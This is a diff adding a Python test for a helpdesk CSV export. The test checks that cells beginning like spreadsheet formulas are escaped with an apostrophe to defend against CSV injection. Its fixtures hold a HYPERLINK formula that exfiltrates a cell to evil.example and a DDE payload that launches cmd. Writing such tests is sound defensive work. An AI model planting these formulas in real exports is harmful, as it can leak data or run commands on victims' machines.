@@ -310,3 +310,26 @@ async def test_a_rate_with_one_miss_in_thousands_is_not_rounded_to_100_percent(
     assert facts["Resolve met"] == "0.1% (1 of 2000)"
     assert facts["Respond met by priority"] == "P3 99.9% (1999 of 2000)"
     assert [percent(2000, 2000), percent(0, 2000)] == ["100%", "0%"]
+
+
+async def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    engine: AsyncEngine,
+) -> None:
+    """A requester's chat display name (anyone sets their own) or a client name that starts
+    like a formula is text in the CSV an MSP opens in Excel (OWASP CSV injection): a leading
+    apostrophe; ordinary cells are as they were."""
+    import csv
+
+    attack = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    await add(engine, requester_name=attack, client="@SUM(1+1)", category="Printing")
+    await add(engine, requester_name="-2+3", client="+cmd|' /C calc'!A0")
+    await add(engine, requester_name="Ana Lopez", client="Acme", time_minutes=45)
+    period = Period(date(2026, 11, 1), date(2026, 11, 30))
+    out = io.StringIO()
+    assert await write_csv(engine, out, period=period, client=None, now=NOW) == 3
+    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert (rows["HD-1"]["requester"], rows["HD-1"]["client"]) == ("'" + attack, "'@SUM(1+1)")
+    assert rows["HD-1"]["category"] == "Printing"
+    assert (rows["HD-2"]["requester"], rows["HD-2"]["client"]) == ("'-2+3", "'+cmd|' /C calc'!A0")
+    assert (rows["HD-3"]["requester"], rows["HD-3"]["client"]) == ("Ana Lopez", "Acme")
+    assert rows["HD-3"]["time_minutes"] == "45" and rows["HD-3"]["created"].startswith("2026-11-02")
